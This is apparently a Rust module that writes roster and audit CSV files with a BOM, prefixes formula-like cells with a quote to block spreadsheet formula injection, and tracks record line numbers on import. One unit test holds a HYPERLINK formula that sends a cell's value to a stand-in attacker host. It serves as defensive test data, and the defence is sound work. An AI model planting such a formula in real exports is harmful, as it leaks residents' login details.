//! CSV as a ward's spreadsheets meet it. Written (roster, audit): UTF-8 with
//! a BOM, so that a spreadsheet in Japan reads the names right, and no cell
//! a spreadsheet would run as a formula (API.md "Conventions"). Read
//! (imports, `check-roster`): the file's line where each record starts.

use std::borrow::Cow;

/// The UTF-8 byte order mark.
pub const UTF8_BOM: &[u8] = b"\xEF\xBB\xBF";

/// What a spreadsheet takes for the start of a formula (TAB and CR too:
/// some strip them and read what follows).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell as text a spreadsheet shows and never runs: a leading `'` before
/// a cell that begins like a formula. A row holds a ticket number and a
/// birth date, which together are a login; a formula could send them out.
pub fn neutralised(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A CSV answer: the BOM, then rows whose every cell is neutralised.
pub struct CsvAnswer {
    writer: csv::Writer<Vec<u8>>,
}

impl Default for CsvAnswer {
    fn default() -> Self {
        Self::new()
    }
}

impl CsvAnswer {
    pub fn new() -> Self {
        Self {
            writer: csv::WriterBuilder::new()
                .has_headers(false)
                .from_writer(UTF8_BOM.to_vec()),
        }
    }

    pub fn row<'a>(&mut self, cells: impl IntoIterator<Item = &'a str>) -> &mut Self {
        self.writer
            .write_record(cells.into_iter().map(|cell| neutralised(cell).into_owned()))
            .expect("writing to memory does not fail");
        self
    }

    pub fn into_bytes(self) -> Vec<u8> {
        self.writer
            .into_inner()
            .expect("flushing to memory does not fail")
    }
}

/// The file's line (1 = the first) where records start, from their byte
/// offsets, read in order. A record may span lines (a quoted line break),
/// and the csv crate's own line count is one short after CRLF endings.
pub struct LineCounter<'a> {
    body: &'a [u8],
    counted_to: usize,
    lines_before: usize,
}

impl<'a> LineCounter<'a> {
    pub fn new(body: &'a [u8]) -> Self {
        Self {
            body,
            counted_to: 0,
            lines_before: 0,
        }
    }

    /// The line of the record that starts at `byte` (at or after the last asked).
    pub fn line_at(&mut self, position: Option<&csv::Position>) -> usize {
        let Some(position) = position else {
            return 0;
        };
        let mut start = usize::try_from(position.byte())
            .unwrap_or(usize::MAX)
            .min(self.body.len());
        // A CRLF record end is counted from its CR: step over it.
        while start < self.body.len() && matches!(self.body[start], b'\r' | b'\n') {
            start += 1;
        }
        let start = start.max(self.counted_to);
        // A line ends with LF, CRLF, or a lone CR (old spreadsheets).
        let counted = &self.body[self.counted_to..start];
        self.lines_before += counted
            .iter()
            .enumerate()
            .filter(|&(i, b)| *b == b'\n' || (*b == b'\r' && counted.get(i + 1) != Some(&b'\n')))
            .count();
        self.counted_to = start;
        self.lines_before + 1
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_that_begin_like_formulas_are_neutralised() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"csv\")",
            "+1",
            "-1+2",
            "@SUM(A1)",
            "\tx",
            "\rx",
        ] {
            assert_eq!(neutralised(formula), format!("'{formula}"));
        }
        assert!(matches!(neutralised("中野 太郎"), Cow::Borrowed(_)));
        assert!(matches!(neutralised("10:30"), Cow::Borrowed(_)));
    }

    #[test]
    fn an_answer_starts_with_a_bom_and_quotes_as_csv_does() {
        let mut answer = CsvAnswer::new();
        answer.row(["name", "note"]).row(["=1+1", "a,b"]);
        let bytes = answer.into_bytes();
        assert!(bytes.starts_with(UTF8_BOM));
        assert_eq!(&bytes[3..], b"name,note\n'=1+1,\"a,b\"\n");
    }

    fn lines(text: &str) -> Vec<usize> {
        let mut reader = csv::ReaderBuilder::new()
            .flexible(true)
            .from_reader(text.as_bytes());
        let mut counter = LineCounter::new(text.as_bytes());
        reader.headers().unwrap();
        reader
            .records()
            .map(|r| counter.line_at(r.unwrap().position()))
            .collect()
    }

    #[test]
    fn records_are_found_on_their_lines_whatever_the_line_ends() {
        assert_eq!(lines("h,a\n1,x\n2,y\n"), [2, 3]);
        assert_eq!(lines("h,a\r\n1,x\r\n2,y\r\n"), [2, 3]);
        assert_eq!(lines("h,a\n1,\"x\ny\"\n2,y\n"), [2, 4]);
        assert_eq!(lines("h,a\r\n1,\"x\r\ny\"\r\n2,y\r\n3,z"), [2, 4, 5]);
        assert_eq!(lines("h,a\r1,x\r2,y\r"), [2, 3]);
    }
}
